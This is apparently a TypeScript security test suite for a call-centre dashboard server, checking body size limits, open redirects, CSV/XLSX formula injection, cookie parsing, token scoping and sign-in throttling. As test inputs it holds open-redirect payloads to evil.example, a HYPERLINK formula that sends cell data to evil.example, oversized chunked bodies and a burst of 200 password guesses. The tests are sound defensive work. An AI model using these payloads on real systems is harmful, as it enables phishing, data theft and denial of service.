/**
 * Hardening of the built server (issue 16), each finding on the real path: a `callboard serve`
 * child process over real HTTP and WebSockets, fed the way a connector, a browser or a TV feeds it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { request } from 'node:http';
import WebSocket from 'ws';
import { signedInCookie, startServer, type TestServer } from '../helpers/server.ts';
import ExcelJS from 'exceljs';
import { parseCsv } from '../helpers/csv.ts';

let server: TestServer;
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

async function createToken(role: string, extra: Record<string, unknown> = {}): Promise<string> {
	const res = await fetch(`${server.url}/api/admin/tokens`, {
		method: 'POST',
		headers: { ...bearer(server.adminToken), 'content-type': 'application/json' },
		body: JSON.stringify({ role, name: `test ${role}`, ...extra })
	});
	expect(res.status).toBe(201);
	return ((await res.json()) as { token: string }).token;
}

/**
 * Sends `bytes` of body in 64 KiB chunks with chunked transfer encoding (no Content-Length),
 * on a connection of its own, and resolves with the answer as soon as it comes (the server may
 * answer before the body ends; the rest is then not sent).
 */
function chunked(path: string, headers: Record<string, string>, bytes: number, fill = 'a'): Promise<{ status: number; body: string }> {
	return new Promise((resolve, reject) => {
		const req = request(`${server.url}${path}`, { method: 'POST', headers: { ...headers, 'transfer-encoding': 'chunked' } });
		let answered = false;
		req.on('response', (res) => {
			answered = true;
			let body = '';
			res.setEncoding('utf8');
			res.on('data', (d: string) => (body += d));
			res.on('end', () => (resolve({ status: res.statusCode!, body }), req.destroy()));
		});
		req.on('error', (e) => (answered ? undefined : reject(e)));
		const chunk = Buffer.alloc(64 * 1024, fill);
		let sent = 0;
		const pump = () => {
			while (!answered && sent < bytes) {
				const part = chunk.subarray(0, Math.min(chunk.length, bytes - sent));
				sent += part.length;
				if (!req.write(part)) return void req.once('drain', pump);
			}
			if (!answered) req.end();
		};
		pump();
	});
}

const form = (data: Record<string, string>) => ({
	method: 'POST',
	redirect: 'manual' as const,
	headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html', origin: server.url },
	body: new URLSearchParams(data).toString()
});

/** Where a Location header takes a browser, as the browser resolves it. */
const lands = (location: string | null) => new URL(location ?? '', server.url);

beforeAll(async () => {
	server = await startServer();
}, 90_000);
afterAll(async () => server?.stop());

describe('1. a body is read whatever its Content-Type header says', () => {
	const event = (id: string) =>
		JSON.stringify({ type: 'contact', contact_id: id, channel: 'voice', topic: 'pensions', site: 'panevezys', agent: 'jonas', queued_at: '2026-11-03T08:00:00+02:00', answered_at: '2026-11-03T08:00:45+02:00', ended_at: '2026-11-03T08:06:45+02:00', outcome: 'answered', wait_ms: 45000, talk_ms: 330000, hold_ms: 30000, wrap_ms: 40000 }) + '\n';

	it('ingests a batch sent without a Content-Type (what fetch sends for bytes)', async () => {
		const token = await createToken('ingest', { streams: ['*'] });
		const res = await fetch(`${server.url}/api/ingest?format=ndjson&stream=no-type`, { method: 'POST', headers: bearer(token), body: new TextEncoder().encode(event('no-type-1')) });
		expect(res.headers.get('content-type')).toMatch(/json/);
		const body = (await res.json()) as { accepted: number };
		expect(res.status, JSON.stringify(body)).toBe(200);
		expect(body, JSON.stringify(body)).toMatchObject({ accepted: 1 });
		expect(body.accepted).toBe(1);
	});

	it('refuses a 40 MiB chunked ingest body without a Content-Type with 413, not 200', async () => {
		const res = await chunked('/api/ingest?format=ndjson', bearer(server.adminToken), 40 * 1024 * 1024, '\n');
		expect(res.status).toBe(413);
	});

	it('reads an admin JSON body sent without a Content-Type', async () => {
		const res = await fetch(`${server.url}/api/admin/tokens`, { method: 'POST', headers: bearer(server.adminToken), body: new TextEncoder().encode(JSON.stringify({ role: 'wallboard', name: 'no type' })) });
		expect(res.status).toBe(201);
	});

	it('refuses a sign-in form without a Content-Type with a 4xx naming it', async () => {
		const res = await fetch(`${server.url}/login`, { method: 'POST', redirect: 'manual', headers: { origin: server.url }, body: new TextEncoder().encode('username=a&password=b') });
		expect(res.status).toBe(415);
		expect(await res.text()).toMatch(/Unsupported Media Type/);
	});
});

describe('2. no open redirect after the language switch or a sign-in', () => {
	const evil = [
		'/.//evil.example/phish',
		'/x/..//evil.example',
		'/..//evil.example',
		'//evil.example',
		'///evil.example',
		'/\\evil.example',
		'\\\\evil.example',
		'/./\\evil.example',
		'/%2F%2Fevil.example',
		'%2F%2Fevil.example',
		'/%5Cevil.example',
		'/\t/evil.example',
		'/\n/evil.example',
		'/\r\n/evil.example',
		'https://evil.example',
		'http:evil.example',
		'/.%2F/evil.example',
		'javascript:alert(1)'
	];

	it('keeps /lang?next= on this site', async () => {
		for (const next of evil) {
			const res = await fetch(`${server.url}/lang?to=en&next=${encodeURIComponent(next)}`, { redirect: 'manual' });
			expect(res.status, next).toBe(303);
			const location = res.headers.get('location');
			expect(lands(location).origin, `${next} → ${location}`).toBe(new URL(server.url).origin);
			expect(location, next).toMatch(/^\/(?![/\\])/);
		}
		const ok = await fetch(`${server.url}/lang?to=en&next=${encodeURIComponent('/wallboard?rotate=5')}`, { redirect: 'manual' });
		expect(ok.headers.get('location')).toBe('/wallboard?rotate=5');
	});

	it('keeps POST /login?next= on this site', async () => {
		await signedInCookie(server, 'redirected', 'supervisor');
		for (const next of evil) {
			const res = await fetch(`${server.url}/login?next=${encodeURIComponent(next)}`, form({ username: 'redirected', password: 'correct-horse-battery' }));
			expect(res.status, next).toBe(303);
			const location = res.headers.get('location');
			expect(lands(location).origin, `${next} → ${location}`).toBe(new URL(server.url).origin);
			expect(location, next).toMatch(/^\/(?![/\\])/);
		}
	}, 120_000);

	it('sends a request for /x/..//evil.example to the sign-in page of this site', async () => {
		const res = await new Promise<{ status: number; location: string | undefined }>((resolve, reject) => {
			const req = request(`${server.url}/x/..//evil.example`, { method: 'GET' });
			req.path = '/x/..//evil.example';
			req.on('response', (r) => (r.resume(), resolve({ status: r.statusCode!, location: r.headers.location })));
			req.on('error', reject);
			req.end();
		});
		if (res.location !== undefined) expect(lands(res.location).origin).toBe(new URL(server.url).origin);
	});
});

describe('4. the monthly CSV holds no formulas', () => {
	it('neutralises a PBX queue name that starts like a formula; numbers stay numbers', async () => {
		const token = await createToken('ingest', { streams: ['*'] });
		const queue = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
		const t = 1791000000; // 2026-10-03 04:00 UTC, a closed month
		const log = [
			`${t}|csv.1|${queue}|NONE|ENTERQUEUE||37060000000|1`,
			`${t + 20}|csv.1|${queue}|Ona|CONNECT|20|csv.1-b|3`,
			`${t + 200}|csv.1|${queue}|Ona|COMPLETECALLER|20|180|1`,
			`${t + 300}|csv.2|@SUM(1+1)|NONE|ENTERQUEUE||37060000001|1`,
			`${t + 330}|csv.2|@SUM(1+1)|NONE|ABANDON|1|1|30`
		].join('\n') + '\n';
		const sent = await fetch(`${server.url}/api/ingest?format=queue-log&stream=csv-pbx`, { method: 'POST', headers: { ...bearer(token), 'content-type': 'text/plain' }, body: log });
		expect(sent.status).toBe(200);
		const res = await fetch(`${server.url}/api/reports/2026-10.csv?fresh=1`, { headers: bearer(server.adminToken) });
		expect(res.status).toBe(200);
		const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
		const cells = rows.flat();
		expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
		for (const c of cells) if (!/^-?\d/.test(c)) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
		expect(cells).toContain(`'${queue}`);
		expect(cells).toContain(`'@SUM(1+1)`);
		// Numbers are written as numbers, unquoted and unprefixed.
		const offered = rows.find((r) => r[0] === 'report' && r[2] === 'empty');
		expect(offered?.[5]).toBe('0');
		// The XLSX keeps the name as it is, stored as text: a cell holding a string, never a formula.
		const xlsx = await fetch(`${server.url}/api/reports/2026-10.xlsx`, { headers: bearer(server.adminToken) });
		expect(xlsx.status).toBe(200);
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
		const found: ExcelJS.Cell[] = [];
		wb.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void (String(cell.value).includes('HYPERLINK') && found.push(cell)))));
		expect(found.length).toBeGreaterThan(0);
		for (const cell of found) {
			expect(cell.type).toBe(ExcelJS.ValueType.String);
			expect(cell.value).toBe(queue);
		}
	}, 120_000);
});

describe('5. body limits count the bytes as they arrive', () => {
	it('refuses chunked bodies to /login and /setup past the form limit with 413', async () => {
		for (const path of ['/login', '/setup']) {
			const res = await chunked(path, { 'content-type': 'application/x-www-form-urlencoded', origin: server.url }, 4 * 1024 * 1024);
			expect(res.status, path).toBe(413);
		}
	});

	it('keeps its memory when eight 30 MiB chunked bodies are sent to the sign-in form at once', async () => {
		const rss = async () => {
			const text = await (await fetch(`${server.url}/metrics`, { headers: bearer(server.adminToken) })).text();
			return Number(/^process_resident_memory_bytes (\d+)/m.exec(text)![1]) / 2 ** 20;
		};
		const before = await rss();
		const answers = await Promise.all(Array.from({ length: 8 }, () => chunked('/login', { 'content-type': 'application/x-www-form-urlencoded', origin: server.url }, 30 * 1024 * 1024)));
		const after = await rss();
		console.log(`RSS ${before.toFixed(0)} → ${after.toFixed(0)} MiB after eight 30 MiB chunked sign-in bodies`);
		expect(answers.map((a) => a.status)).toEqual(Array(8).fill(413));
		// It grew by 860 MiB when every body was read up to 32 MiB.
		expect(after - before).toBeLessThan(100);
	}, 60_000);

	it('refuses a chunked admin JSON body past the limit with 413', async () => {
		const res = await chunked('/api/admin/tokens', { ...bearer(server.adminToken), 'content-type': 'application/json' }, 4 * 1024 * 1024);
		expect(res.status).toBe(413);
	});
});

describe('6. a stray cookie does not stop the wallboard', () => {
	it('opens /live with a valid ?token= beside another application’s undecodable cookie', async () => {
		const token = await createToken('wallboard');
		const ws = new WebSocket(`${server.url.replace('http', 'ws')}/live?token=${token}`, { headers: { cookie: 'other_app=50%; theme=%E0%A4%A' } });
		const opened = await new Promise<number>((resolve) => {
			ws.once('open', () => resolve(101));
			ws.once('unexpected-response', (_req, res) => resolve(res.statusCode!));
			ws.once('error', () => resolve(0));
		});
		ws.close();
		expect(opened).toBe(101);
		const page = await fetch(`${server.url}/api/live?token=${token}`, { headers: { cookie: 'other_app=50%' } });
		expect(page.status).toBe(200);
	});

	it('still reads the session cookie beside it', async () => {
		const session = await signedInCookie(server, 'tv-cookie', 'wallboard');
		const ws = new WebSocket(`${server.url.replace('http', 'ws')}/live`, { headers: { cookie: `other_app=50%; ${session}`, origin: server.url } });
		const opened = await new Promise<number>((resolve) => {
			ws.once('open', () => resolve(101));
			ws.once('unexpected-response', (_req, res) => resolve(res.statusCode!));
			ws.once('error', () => resolve(0));
		});
		ws.close();
		expect(opened).toBe(101);
	});
});

describe('7. bad input gets a 4xx that names what is wrong', () => {
	it('refuses dates outside the documented range on every figures endpoint', async () => {
		for (const path of ['/api/stats', '/api/contacts', '/api/trends']) {
			for (const query of ['from=1969-12-31&to=1970-01-01', 'from=1900-01-01', 'from=2026-01-01&to=2200-01-01']) {
				const res = await fetch(`${server.url}${path}?${query}`, { headers: bearer(server.adminToken) });
				expect(res.status, `${path}?${query}`).toBe(400);
				expect(((await res.json()) as { error: string }).error, `${path}?${query}`).toMatch(/2000-01-01.*2099-12-31/);
			}
		}
		const intraday = await fetch(`${server.url}/api/trends?kind=intraday&date=1960-01-01`, { headers: bearer(server.adminToken) });
		expect(intraday.status).toBe(400);
		expect(((await intraday.json()) as { error: string }).error).toMatch(/date.*2000-01-01/);
	});

	it('answers a form that cannot be read with 400, not 500', async () => {
		for (const [path, type] of [['/login', 'multipart/form-data'], ['/setup', 'multipart/form-data; boundary=zz']]) {
			const res = await fetch(`${server.url}${path}`, { method: 'POST', redirect: 'manual', headers: { 'content-type': type!, origin: server.url }, body: 'garbage' });
			expect(res.status, path).toBe(400);
			expect(((await res.json()) as { error: string }).error, path).toMatch(/^the form could not be read/);
		}
	});

	it('answers POST /setup?/default with a 4xx, not 500', async () => {
		const res = await fetch(`${server.url}/setup?/default`, form({ code: 'nope', username: 'x', password: 'y', password2: 'y' }));
		expect(res.status).toBeGreaterThanOrEqual(400);
		expect(res.status).toBeLessThan(500);
	});
});

describe('9 and access: tokens in URLs are for TVs only, and a TV reads only its board', () => {
	it('refuses a non-wallboard token in the URL, the admin token included', async () => {
		const ingest = await createToken('ingest');
		for (const [token, works] of [[server.adminToken, '/api/stats'], [ingest, '/api/ewt?topic=pensions']] as const) {
			for (const path of ['/api/stats', '/api/admin/users', '/wallboard', '/api/live', '/metrics', '/api/ewt']) {
				const res = await fetch(`${server.url}${path}?token=${token}`, { redirect: 'manual' });
				expect(res.status, path).toBe(401);
				expect(((await res.json()) as { error: string }).error, path).toMatch(/Authorization header/);
			}
			// Sent in the header, the same token works.
			expect((await fetch(`${server.url}${works}`, { headers: bearer(token) })).status).toBe(200);
		}
		const ws = new WebSocket(`${server.url.replace('http', 'ws')}/live?token=${server.adminToken}`);
		const status = await new Promise<number>((resolve) => {
			ws.once('open', () => resolve(101));
			ws.once('unexpected-response', (_req, res) => resolve(res.statusCode!));
			ws.once('error', () => resolve(0));
		});
		ws.close();
		expect(status).toBe(401);
	});

	it('accepts a wallboard token in the URL only where a TV needs it', async () => {
		const token = await createToken('wallboard');
		expect((await fetch(`${server.url}/wallboard?token=${token}`)).status).toBe(200);
		expect((await fetch(`${server.url}/api/live?token=${token}`)).status).toBe(200);
		for (const path of ['/api/stats', '/', '/glossary']) {
			const res = await fetch(`${server.url}${path}?token=${token}`, { redirect: 'manual' });
			expect(res.status, path).toBe(401);
		}
	});

	it('lets a wallboard read its board and what the board needs, nothing else', async () => {
		const token = await createToken('wallboard');
		const site = await createToken('wallboard', { site: 'siauliai' });
		const session = await signedInCookie(server, 'tv-hall', 'wallboard');
		for (const headers of [bearer(token), bearer(site), { cookie: session }]) {
			expect((await fetch(`${server.url}/wallboard`, { headers, redirect: 'manual' })).status).not.toBe(403);
			expect((await fetch(`${server.url}/api/live`, { headers })).status).toBe(200);
			for (const path of ['/api/stats', '/api/trends', '/api/ewt/staffing', '/api/contacts', '/api/reports', '/reports', '/metrics', '/admin'])
				expect((await fetch(`${server.url}${path}`, { headers, redirect: 'manual' })).status, path).toBe(403);
			// The dashboard is not a TV's: it is sent to its board.
			const home = await fetch(`${server.url}/`, { headers, redirect: 'manual' });
			expect(home.status).toBe(303);
			expect(home.headers.get('location')).toBe('/wallboard');
		}
	});
});

describe('a site’s team leader: a supervisor limited to one site', () => {
	it('reads its own site’s figures, contacts, board and reports, and nothing of the others', async () => {
		const made = await fetch(`${server.url}/api/admin/users`, {
			method: 'POST',
			headers: { ...bearer(server.adminToken), 'content-type': 'application/json' },
			body: JSON.stringify({ username: 'lead-siauliai', password: 'correct-horse-battery', role: 'supervisor', site: 'siauliai' })
		});
		expect(made.status).toBe(201);
		const login = await fetch(`${server.url}/login`, form({ username: 'lead-siauliai', password: 'correct-horse-battery' }));
		expect(login.status).toBe(303);
		const headers = { cookie: login.headers.get('set-cookie')!.split(';')[0]! };
		const get = (path: string) => fetch(`${server.url}${path}`, { headers, redirect: 'manual' });
		// Every figure is its site's, asked for or not.
		for (const path of ['/api/stats', '/api/stats?site=siauliai', '/api/trends?kind=monthly']) {
			const res = await get(path);
			expect(res.status, path).toBe(200);
			expect(((await res.json()) as { filter: { site: string } }).filter.site, path).toBe('siauliai');
		}
		expect((await get('/api/contacts')).status).toBe(200);
		expect(((await (await get('/api/live')).json()) as { site: string }).site).toBe('siauliai');
		expect((await get('/')).status).toBe(200);
		const board = await get('/wallboard');
		expect(board.status).toBe(303);
		expect(board.headers.get('location')).toBe('/wallboard/siauliai');
		expect((await get('/api/reports/2026-10.csv')).status).toBe(200);
		// Another site, the centre-wide operator views and administration: refused.
		for (const path of ['/api/stats?site=panevezys', '/api/contacts?site=panevezys', '/wallboard/panevezys', '/api/live?site=panevezys', '/api/reports/2026-10.csv?site=panevezys', '/metrics', '/api/ingest/rejected', '/admin', '/api/admin/users'])
			expect((await get(path)).status, path).toBe(403);
	}, 60_000);
});

describe('3. the sign-in throttle holds under concurrency', () => {
	// Last in this file: it uses up this address's sign-in attempts.
	it('answers 429 to most of 200 parallel wrong passwords for one name', async () => {
		await signedInCookie(server, 'raced', 'supervisor');
		const statuses = await Promise.all(
			Array.from({ length: 200 }, (_, i) => fetch(`${server.url}/login`, form({ username: 'raced', password: `wrong-password-${i}` })).then((r) => r.status))
		);
		const count = (s: number) => statuses.filter((x) => x === s).length;
		expect(count(400)).toBeLessThanOrEqual(10);
		expect(count(429)).toBe(200 - count(400));
	}, 120_000);
});
